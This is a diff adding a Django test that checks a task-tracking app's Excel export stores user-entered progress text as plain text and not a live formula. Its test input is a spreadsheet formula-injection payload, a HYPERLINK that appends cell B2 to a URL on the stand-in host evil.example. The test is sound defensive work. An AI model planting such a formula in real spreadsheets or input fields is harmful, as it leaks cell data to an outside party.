@@ -185,3 +185,17 @@ def test_the_task_page_fits_the_liaisons_reading(users, login, task, django_asse
     with django_assert_max_num_queries(20):
         page = client.get(task.get_absolute_url()).content.decode()
     assert "由承办单位的联络员填报进展" in page and "进展一" in page and "变更记录" in page
+
+
+def test_excel_export_writes_typed_progress_as_text(users, login, decision):
+    from core.tests.test_exports import assert_no_live_formula
+
+    task = f.task(users, decision, "fulian")
+    services.task_progress_add(
+        by=users["liaison-fulian"], task=task, text='=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+    )
+    response = login("office_staff").get(reverse("duties:tasks_export", args=[CODE]))
+    assert_no_live_formula(response.content)
+    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
+    assert any(row[10] == '=HYPERLINK("http://evil.example/?"&B2,"点击查看")' for row in rows)
+    assert "filename*=UTF-8''%E7%9D%A3%E5%8A%9E" in response["Content-Disposition"]
